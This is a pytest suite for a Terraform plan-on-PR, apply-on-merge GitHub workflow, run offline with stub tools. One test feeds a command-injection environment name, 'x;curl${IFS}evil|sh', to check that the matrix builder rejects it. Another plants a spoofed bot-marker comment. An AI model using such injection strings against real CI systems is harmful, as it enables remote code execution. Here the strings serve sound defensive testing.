"""The plan-on-pull-request / apply-on-merge loop of .github/workflows/terraform.yml, run offline: the `run:`
scripts of the workflow's own steps (read from the YAML, run with bash -eo pipefail as GitHub does) in a
throwaway git repository of the project, with stub `terraform` and `gh` on PATH and the real tfgen.

What is checked: the environments matrix refuses names outside tfgen's rule; a pull request's plan becomes ONE
comment, updated in place on the next push; an unacknowledged destructive change fails the job after its
section says why; on merge the apply step runs only when the re-plan's digest equals the reviewed one.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

ROOT = Path(__file__).resolve().parent.parent
WORKFLOW = ROOT / ".github/workflows/terraform.yml"
sys.path.insert(0, str(ROOT / "scripts"))
import ci_plan  # noqa: E402

GIT_ENV = {"GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.com", "GIT_COMMITTER_NAME": "t",
           "GIT_COMMITTER_EMAIL": "t@example.com", "GIT_CONFIG_GLOBAL": "/dev/null", "GIT_CONFIG_NOSYSTEM": "1"}
REPO = "acme/infra"

TERRAFORM_STUB = """#!/usr/bin/env bash
# terraform stub: logs its arguments, `show -json` prints $STUB_PLAN, `plan -out=F` writes F.
echo "terraform $*" >> "$STUB_LOG"
case "$1" in
  show) if [ "$2" = "-json" ]; then cat "$STUB_PLAN"; else echo "  # stub text plan"; fi ;;
  plan) for a in "$@"; do case "$a" in -out=*) echo binary > "${a#-out=}" ;; esac; done ;;
esac
"""

GH_STUB = """#!/usr/bin/env python3
# gh stub: the issue-comment and commit-pulls endpoints of `gh api`, kept in $GH_STATE (JSON).
import json, os, sys
args = sys.argv[1:]
state_path = os.environ["GH_STATE"]
state = json.load(open(state_path))
with open(os.environ["STUB_LOG"], "a") as log:
    log.write("gh " + " ".join(args) + "\\n")
method = args[args.index("--method") + 1] if "--method" in args else "GET"
path = next(a for a in args[1:] if a.startswith("repos/"))
body = next((open(a[len("body=@"):]).read() for a in args if a.startswith("body=@")), None)
if path.endswith("/pulls"):
    for p in state["pulls"]:
        print(json.dumps(p))
elif method == "GET":
    for c in state["comments"]:
        print(json.dumps(c))
elif method == "POST":
    state["comments"].append({"id": 100 + len(state["comments"]), "user": "github-actions[bot]", "body": body})
elif method == "PATCH":
    cid = int(path.rsplit("/", 1)[1])
    for c in state["comments"]:
        if c["id"] == cid:
            c["body"] = body
json.dump(state, open(state_path, "w"))
"""


def a_plan(*changes: tuple[str, list[str], Any]) -> dict[str, Any]:
    return {"format_version": "1.2", "terraform_version": "1.11.4", "timestamp": "2026-12-04T10:00:00Z",
            "resource_changes": [{"address": a, "change": {"actions": acts, "before": None, "after": after}}
                                 for a, acts, after in changes]}


PLAN = a_plan(("module.storage.aws_s3_bucket.uploads", ["create"], {"bucket": "u"}),
              ("module.network.aws_vpc.this", ["no-op"], {"cidr": "10.0.0.0/16"}))


def git(repo: Path, *args: str) -> None:
    subprocess.run(["git", *args], cwd=repo, env={**os.environ, **GIT_ENV}, check=True, capture_output=True)


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The project (specs, templates, generated tree, scripts) committed as origin/main, tfgen from .venv."""
    root = tmp_path_factory.mktemp("ci") / "repo"
    for name in ("specs", "templates", "generated", "scripts"):
        shutil.copytree(ROOT / name, root / name)
    (root / ".venv").symlink_to(Path(sys.executable).parent.parent)
    git(root, "init", "-q", "-b", "main")
    git(root, "add", "specs", "templates", "generated", "scripts")
    git(root, "commit", "-q", "-m", "base")
    git(root, "update-ref", "refs/remotes/origin/main", "HEAD")
    return root


@pytest.fixture
def runner(project: Path, tmp_path: Path):
    """Run named steps of a workflow job with GitHub's shell, stub tools and files for outputs and summary."""
    stubs = tmp_path / "bin"
    stubs.mkdir()
    for name, text in (("terraform", TERRAFORM_STUB), ("gh", GH_STUB)):
        (stubs / name).write_text(text)
        (stubs / name).chmod(0o755)
    temp = tmp_path / "runner-temp"
    temp.mkdir()
    files = {k: tmp_path / k for k in ("log", "output", "summary", "plan.json", "gh.json")}
    files["gh.json"].write_text(json.dumps({"comments": [], "pulls": []}))
    files["plan.json"].write_text(json.dumps(PLAN))
    for k in ("log", "output", "summary"):
        files[k].write_text("")
    jobs = yaml.safe_load(WORKFLOW.read_text())["jobs"]

    def run_steps(job: str, names: list[str], **env: str) -> subprocess.CompletedProcess[str]:
        """Each step in its own shell, from the workspace, stopping at the first failure (as GitHub does)."""
        full_env = {**os.environ, "PATH": f"{stubs}:{os.environ['PATH']}", "RUNNER_TEMP": str(temp),
                    "GITHUB_OUTPUT": str(files["output"]), "GITHUB_STEP_SUMMARY": str(files["summary"]),
                    "GITHUB_WORKSPACE": str(project), "STUB_LOG": str(files["log"]),
                    "STUB_PLAN": str(files["plan.json"]), "GH_STATE": str(files["gh.json"]), **env}
        stdout = stderr = ""
        for name in names:
            script = next(s for s in jobs[job]["steps"] if s.get("name") == name)["run"]
            done = subprocess.run(["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", script], cwd=project,
                                  env=full_env, capture_output=True, text=True, timeout=300)
            stdout, stderr = stdout + done.stdout, stderr + done.stderr
            if done.returncode:
                break
        return subprocess.CompletedProcess(names, done.returncode, stdout, stderr)

    run_steps.files = files  # type: ignore[attr-defined]
    run_steps.temp = temp  # type: ignore[attr-defined]
    return run_steps


PLAN_STEPS = ["tfgen check", "tfgen impact", "terraform plan", "Application secret is not regenerated",
              "Comment section and job summary"]
PR_ENV = {"ENV_NAME": "dev", "ENV_DIR": "generated/terraform/environments/dev", "BASE_REF": "main"}


def outputs(path: Path) -> dict[str, str]:
    return dict(line.split("=", 1) for line in path.read_text().splitlines() if "=" in line)


def gh_state(runner) -> dict[str, Any]:
    return json.loads(runner.files["gh.json"].read_text())


def test_pull_request_plan_becomes_one_comment_updated_in_place(runner, project: Path) -> None:
    done = runner("plan", PLAN_STEPS, **PR_ENV)
    assert done.returncode == 0, done.stderr
    assert outputs(runner.files["output"])["status"] == "0"
    section = (project / "generated/terraform/environments/dev/plan-comment.md").read_text()
    assert f"sha256={ci_plan.plan_hash(PLAN)}" in section
    assert "create | `module.storage.aws_s3_bucket.uploads`" in section
    assert "### terraform plan dev" in runner.files["summary"].read_text()  # the job summary too
    log = runner.files["log"].read_text()
    assert "terraform plan -input=false -lock=false -no-color -out=tfplan" in log

    sections = runner.temp / "sections" / "plan-section-dev"
    sections.mkdir(parents=True)
    shutil.copy(project / "generated/terraform/environments/dev/plan-comment.md", sections)
    comment_env = {"REPO": REPO, "PR": "7", "HEAD_SHA": "a" * 40}
    assert runner("comment", ["Create or update the comment"], **comment_env).returncode == 0
    first = gh_state(runner)["comments"]
    assert len(first) == 1 and first[0]["body"].startswith(ci_plan.MARKER)

    runner.files["plan.json"].write_text(json.dumps(a_plan(("aws_s3_bucket.logs", ["delete"], None))))
    assert runner("plan", PLAN_STEPS, **PR_ENV).returncode == 0
    shutil.copy(project / "generated/terraform/environments/dev/plan-comment.md", sections)
    assert runner("comment", ["Create or update the comment"], **comment_env).returncode == 0
    second = gh_state(runner)["comments"]
    assert len(second) == 1 and second[0]["id"] == first[0]["id"]  # updated, not a second comment
    assert "delete | `aws_s3_bucket.logs`" in second[0]["body"] and "aws_s3_bucket.uploads" not in second[0]["body"]
    calls = [c for c in runner.files["log"].read_text().splitlines() if c.startswith("gh api --method")]
    assert [c.split()[3] for c in calls] == ["POST", "PATCH"]


def test_a_users_comment_with_the_marker_is_not_taken_over(runner) -> None:
    state = {"comments": [{"id": 5, "user": "mallory", "body": ci_plan.MARKER + "\nfake"}], "pulls": []}
    runner.files["gh.json"].write_text(json.dumps(state))
    (runner.temp / "sections").mkdir()
    done = runner("comment", ["Create or update the comment"], REPO=REPO, PR="7", HEAD_SHA="b" * 40)
    assert done.returncode == 0, done.stderr
    comments = gh_state(runner)["comments"]
    assert comments[0]["body"].endswith("fake") and len(comments) == 2


def test_unacknowledged_destructive_change_fails_after_its_section(runner, project: Path) -> None:
    spec = project / "specs/base.yaml"
    original = spec.read_text()
    spec.write_text(original.replace('engine_version: "8.4"', 'engine_version: "8.0.40"'))
    try:
        env = {**PR_ENV, "ENV_NAME": "prod", "ENV_DIR": "generated/terraform/environments/prod"}
        assert runner("plan", ["tfgen impact"], **env).returncode == 0
        status = outputs(runner.files["output"])["status"]
        assert status == "1"
        done = runner("plan", ["Comment section and job summary"], IMPACT_STATUS=status, **env)
        assert done.returncode == 0, done.stderr
        section = (project / "generated/terraform/environments/prod/plan-comment.md").read_text()
        assert "Blocked: prod has an unacknowledged destructive change" in section
        assert "database.engine_version" in section
        gate = runner("plan", ["No unacknowledged destructive change"], IMPACT_STATUS=status, **env)
        assert gate.returncode == 1 and "acknowledged_changes" in gate.stdout
        assert runner("plan", ["No unacknowledged destructive change"], IMPACT_STATUS="0", **env).returncode == 0
    finally:
        spec.write_text(original)


APPLY_STEPS = ["terraform plan", "Application secret is not regenerated", "The plan is the reviewed one",
               "terraform apply"]
APPLY_ENV = {"ENV_NAME": "dev", "ENV_DIR": "generated/terraform/environments/dev", "REPO": REPO, "SHA": "c" * 40}


def reviewed(runner, plan: dict[str, Any], merged: bool = True) -> None:
    body = ci_plan.comment_body([ci_plan.section("dev", plan, "", 0, "")], "d" * 40)
    runner.files["gh.json"].write_text(json.dumps({
        "comments": [{"id": 9, "user": ci_plan.BOT, "body": body}],
        "pulls": [{"number": 7, "merged_at": "2026-12-04T10:00:00Z" if merged else None}]}))


def applied(runner) -> bool:
    return any(line.startswith("terraform apply") for line in runner.files["log"].read_text().splitlines())


def test_merge_applies_the_reviewed_plan(runner) -> None:
    reviewed(runner, {**PLAN, "timestamp": "2026-12-03T09:00:00Z"})  # another run, same changes
    done = runner("apply", APPLY_STEPS, **APPLY_ENV)
    assert done.returncode == 0, done.stderr
    assert applied(runner) and "is the reviewed one" in done.stderr


@pytest.mark.parametrize("case", ["changed", "not_merged", "no_section"])
def test_merge_refuses_a_plan_that_was_not_reviewed(runner, case: str) -> None:
    if case == "changed":
        reviewed(runner, a_plan(("module.storage.aws_s3_bucket.uploads", ["create"], {"bucket": "other"})))
    elif case == "not_merged":
        reviewed(runner, PLAN, merged=False)
    else:
        runner.files["gh.json"].write_text(json.dumps({"comments": [], "pulls": [{"number": 7, "merged_at": "x"}]}))
    done = runner("apply", APPLY_STEPS, **APPLY_ENV)
    assert done.returncode == 1 and not applied(runner)
    assert {"changed": "differs from the one reviewed", "not_merged": "was not merged from a pull request",
            "no_section": "shows no reviewed plan of dev"}[case] in done.stderr


def test_secret_guard_stops_the_apply_before_the_digest(runner) -> None:
    regenerate = a_plan(("module.storage.aws_secretsmanager_secret_version.app", ["delete", "create"], {}))
    runner.files["plan.json"].write_text(json.dumps(regenerate))
    reviewed(runner, regenerate)
    done = runner("apply", APPLY_STEPS, **APPLY_ENV)
    assert done.returncode == 1 and not applied(runner) and "secret_guard" in done.stderr


def test_environments_step_builds_the_matrix_and_refuses_a_hostile_name(runner, project: Path) -> None:
    if not shutil.which("jq"):
        pytest.skip("jq is not installed (.ci/run installs it)")
    env = {"EVENT": "pull_request", "BASE_REF": "main", "BEFORE": "", "TFGEN_PLAN_ROLE_NAME": "tfgen-plan",
           "TFGEN_APPLY_ROLE_NAME": "tfgen-apply", "AWS_PLAN_ROLE_ARN": "arn:aws:iam::444455556666:role/p",
           "AWS_APPLY_ROLE_ARN": ""}
    done = runner("tfgen", ["Environments to check (tfgen affected)"], **env)
    assert done.returncode == 0, done.stderr
    assert outputs(runner.files["output"])["environments"] == "[]"  # nothing changed since origin/main
    done = runner("tfgen", ["Environments to check (tfgen affected)"], **{**env, "EVENT": "workflow_dispatch"})
    deploy = {row["env"]: row for row in json.loads(outputs(runner.files["output"])["deploy"])}
    assert sorted(deploy) == ["dev", "prod", "staging"]
    assert deploy["prod"]["apply_role"] == "arn:aws:iam::111122223333:role/tfgen-apply"  # prod's account
    assert deploy["prod"]["production"] is True
    assert deploy["dev"]["plan_role"] == "arn:aws:iam::444455556666:role/tfgen-plan"  # dev's own account
    assert deploy["staging"]["apply_role"] == "arn:aws:iam::777788889999:role/tfgen-apply"

    hostile = runner.temp / "affected.json"
    hostile.write_text(json.dumps({"environments": ["dev", "x;curl${IFS}evil|sh"]}))
    done = subprocess.run([sys.executable, str(ROOT / "scripts/ci_plan.py"), "matrix", "--tfgen",
                           str(project / ".venv/bin/tfgen"), "--affected-json", str(hostile)], cwd=project,
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 1 and "is not a valid environment name" in done.stderr and done.stdout == ""


def test_digest_ignores_what_varies_between_two_plans_of_one_change() -> None:
    same = {**PLAN, "timestamp": "x", "terraform_version": "1.12.0", "prior_state": {"values": {}},
            "resource_drift": [{"address": "a"}], "checks": []}
    assert ci_plan.plan_hash(same) == ci_plan.plan_hash(PLAN)
    for other in (a_plan(("module.storage.aws_s3_bucket.uploads", ["create"], {"bucket": "v"})),
                  a_plan(("module.storage.aws_s3_bucket.uploads", ["delete", "create"], {"bucket": "u"})),
                  {**PLAN, "output_changes": {"url": {"actions": ["update"], "before": "a", "after": "b"}}}):
        assert ci_plan.plan_hash(other) != ci_plan.plan_hash(PLAN)


def test_comment_is_capped_below_githubs_limit() -> None:
    body = ci_plan.comment_body(["x" * 70_000], "e" * 40)
    assert len(body) < 65_536 and body.startswith(ci_plan.MARKER) and "truncated" in body


@pytest.mark.terraform
def test_digest_of_two_real_plans(tmp_path: Path) -> None:
    """Real terraform: two plans of one configuration have one digest; a changed value gives another."""
    if not shutil.which("terraform"):
        pytest.skip("terraform is not installed")
    (tmp_path / "main.tf").write_text('variable "v" {\n  default = "a"\n}\n\nresource "terraform_data" "x" {\n'
                                      '  input = var.v\n}\n\noutput "o" {\n  value = terraform_data.x.output\n}\n')

    def digest(*args: str) -> str:
        subprocess.run(["terraform", "plan", "-input=false", "-out=tfplan", *args], cwd=tmp_path, check=True,
                       capture_output=True, timeout=120)
        shown = subprocess.run(["terraform", "show", "-json", "tfplan"], cwd=tmp_path, check=True,
                               capture_output=True, text=True, timeout=120).stdout
        return ci_plan.plan_hash(json.loads(shown))

    subprocess.run(["terraform", "init", "-input=false"], cwd=tmp_path, check=True, capture_output=True, timeout=120)
    first = digest()
    assert digest() == first
    assert digest("-var", "v=b") != first


@pytest.mark.parametrize("can_plan, note", [("false", "no AWS role"), ("true", "terraform plan did not complete")])
def test_section_without_a_plan_says_why(runner, project: Path, can_plan: str, note: str) -> None:
    done = runner("plan", ["Comment section and job summary"], CAN_PLAN=can_plan, IMPACT_STATUS="0", **PR_ENV)
    assert done.returncode == 0, done.stderr
    section = (project / "generated/terraform/environments/dev/plan-comment.md").read_text()
    assert "_No plan: " + note in section and "tfgen-plan-hash" not in section
